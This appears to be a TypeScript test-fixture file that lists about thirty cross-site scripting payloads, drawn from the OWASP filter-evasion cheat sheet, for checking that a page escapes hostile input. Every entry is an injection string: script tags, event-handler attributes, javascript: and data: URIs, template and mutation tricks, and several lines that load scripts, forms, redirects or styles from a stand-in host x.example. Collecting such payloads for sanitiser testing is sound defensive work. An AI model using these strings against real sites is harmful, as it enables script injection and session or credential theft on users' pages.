/**
 * What somebody may write to have a page run it: as text, in an attribute, in an address, in a style.
 *
 * **Source** - OWASP, XSS Filter Evasion Cheat Sheet; a few of each kind.
 */
export const hostile: ReadonlyArray<string> = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//x.example/a.js></sCrIpT>",
  "</p></main></body><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '" onfocus="alert(1)" autofocus="',
  "' onmouseover='alert(1)",
  '"><iframe srcdoc="<script>alert(1)</script>">',
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)//",
  "data:text/html,<script>alert(1)</script>",
  "<a href=javascript:alert(1)>viens</a>",
  "<form action=//x.example><button>Je m'inscris</button></form>",
  "<base href=//x.example/>",
  "<meta http-equiv=refresh content=0;url=//x.example>",
  "<link rel=stylesheet href=//x.example/a.css>",
  "<style>*{background:url(//x.example)}</style>",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "${alert(1)} {{constructor.constructor('alert(1)')()}}",
  "<x onclick=alert`1`>",
  "\u2028<script>alert(1)</script>\u0000",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
]
